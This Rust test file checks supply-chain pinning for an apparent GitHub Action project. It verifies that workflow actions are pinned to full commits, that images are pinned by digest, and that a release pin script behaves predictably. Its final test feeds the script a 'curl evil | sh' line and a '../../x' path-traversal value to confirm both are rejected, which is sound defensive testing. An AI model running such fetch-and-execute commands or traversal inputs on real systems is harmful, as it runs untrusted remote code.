//! What our workflows and the examples take from elsewhere is named by what it is, not by a name that can be moved.

use std::path::{Path, PathBuf};

const HERE: &str = env!("CARGO_MANIFEST_DIR");

/// Our own Action in the examples: the commit of a release is the reader's to put in.
const OURS: &str = "countersign/countersign@0000000000000000000000000000000000000000";

fn workflows() -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = ["action.yml", "check/action.yml"].map(|file| Path::new(HERE).join(file)).to_vec();
    for folder in [".github/workflows", "examples/workflows"] {
        let entries = std::fs::read_dir(Path::new(HERE).join(folder)).unwrap();
        files.extend(entries.map(|entry| entry.unwrap().path()));
    }
    files.sort();
    files
}

fn is_hexadecimal(text: &str, long: usize) -> bool {
    text.len() == long && text.bytes().all(|byte| byte.is_ascii_digit() || (b'a'..=b'f').contains(&byte))
}

/// What is wrong with what stands behind `uses:`.
fn wrong(uses: &str) -> Option<&'static str> {
    let (what, comment) = uses.split_once(" #").unwrap_or((uses, ""));
    let what = what.trim().trim_matches('"');
    if what.starts_with("./") || what == OURS {
        return None;
    }
    let Some((action, commit)) = what.split_once('@') else { return Some("it names no commit") };
    let version = comment.trim().strip_prefix('v').unwrap_or_default();
    if !is_hexadecimal(commit, 40) || commit.starts_with("00000000") {
        Some("it is not pinned to a full commit")
    } else if action.split('/').count() < 2
        || version.split('.').filter(|part| part.parse::<u32>().is_ok()).count() != 3
    {
        Some("the comment does not say which version the commit is")
    } else {
        None
    }
}

#[test]
fn every_action_is_pinned_to_a_commit_and_says_its_version() {
    let mut seen = 0;
    for file in workflows() {
        for (number, line) in std::fs::read_to_string(&file).unwrap().lines().enumerate() {
            let Some(uses) = line.trim_start().trim_start_matches("- ").strip_prefix("uses:") else { continue };
            seen += 1;
            if let Some(why) = wrong(uses.trim()) {
                panic!("{}:{}: {why}: {uses}", file.display(), number + 1);
            }
        }
    }
    assert!(seen > 20, "only {seen} seen: are they where this looks?");
    for (uses, why) in [
        ("actions/checkout@v7", "it is not pinned to a full commit"),
        ("actions/checkout", "it names no commit"),
        ("actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b", "it is not pinned to a full commit"),
        ("actions/checkout@0000000000000000000000000000000000000000 # v1.0.0", "it is not pinned to a full commit"),
        (
            "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # main",
            "the comment does not say which version the commit is",
        ),
    ] {
        assert_eq!(wrong(uses), Some(why), "{uses}");
    }
}

#[test]
fn one_action_is_of_one_commit_everywhere() {
    let mut commits = std::collections::BTreeMap::new();
    for file in workflows() {
        for line in std::fs::read_to_string(&file).unwrap().lines() {
            let Some(uses) = line.trim_start().trim_start_matches("- ").strip_prefix("uses: ") else { continue };
            let Some((action, commit)) = uses.split_once('@') else { continue };
            let before = commits.entry(action.to_owned()).or_insert_with(|| commit.to_owned());
            assert_eq!(before, commit, "{action} is used at two commits");
        }
    }
}

#[test]
fn every_image_is_pinned_by_its_digest() {
    let mut seen = 0;
    let dockerfile = Path::new(HERE).join("Dockerfile");
    for file in workflows().into_iter().chain([dockerfile]) {
        for line in std::fs::read_to_string(&file).unwrap().lines() {
            let line = line.trim();
            let Some(image) = line.strip_prefix("FROM ").or_else(|| line.strip_prefix("image: ")) else { continue };
            let image = image.split_whitespace().next().unwrap();
            seen += 1;
            let digest = image.split_once("@sha256:").map_or("", |(_, digest)| digest);
            assert!(image == "scratch" || is_hexadecimal(digest, 64), "{}: {image}", file.display());
        }
    }
    assert_eq!(seen, 3, "two stages of the image, and where the tests run");
}

/// What a command says, where it succeeds.
fn said(place: &Path, program: &str, arguments: &[&str]) -> Option<String> {
    let identity =
        ["AUTHOR", "COMMITTER"].map(|who| [(format!("GIT_{who}_NAME"), "x"), (format!("GIT_{who}_EMAIL"), "x")]);
    let mut command = std::process::Command::new(program);
    let output = command.current_dir(place).args(arguments).envs(identity.into_iter().flatten()).output().unwrap();
    output.status.success().then(|| String::from_utf8(output.stdout).unwrap().trim_end().to_owned())
}

#[test]
fn the_commit_to_pin_is_the_released_one_and_the_sums_alone() {
    let place = tempfile::tempdir().unwrap();
    let git = |arguments: &[&str]| said(place.path(), "git", arguments).unwrap();
    std::fs::write(place.path().join("action.yml"), "name: x\n").unwrap();
    git(&["init", "--quiet"]);
    git(&["add", "."]);
    git(&["commit", "--quiet", "--message", "released"]);
    let released = git(&["rev-parse", "HEAD"]);
    let pin = Path::new(HERE).join(".ci/release/pin");
    let sums = place.path().join("SHA256SUMS");
    let line = |version: &str, system: &str| format!("{}  countersign-{version}-{system}\n", "ab".repeat(32));
    let named = line("v1.2.3", "Linux-X64") + &line("v1.2.3", "macOS-ARM64");
    std::fs::write(&sums, &named).unwrap();
    let pinned = || said(place.path(), pin.to_str().unwrap(), &["SHA256SUMS", "v1.2.3"]);
    let commit = pinned().unwrap();
    assert_eq!(git(&["rev-parse", &format!("{commit}^@")]), released, "its only parent");
    assert_eq!(git(&["diff", "--name-status", &released, &commit]), "A\taction/release.sums");
    assert_eq!(git(&["show", &format!("{commit}:action/release.sums")]), named.trim_end());
    assert_eq!(pinned().unwrap(), commit, "made again, it is the same");
    assert_eq!(git(&["status", "--porcelain"]), "?? SHA256SUMS", "nothing here is touched");
    for wrong in [String::new(), line("v1.2.4", "Linux-X64"), named + "curl evil | sh\n", line("v1.2.3", "../../x")] {
        std::fs::write(&sums, wrong).unwrap();
        assert_eq!(pinned(), None);
    }
}
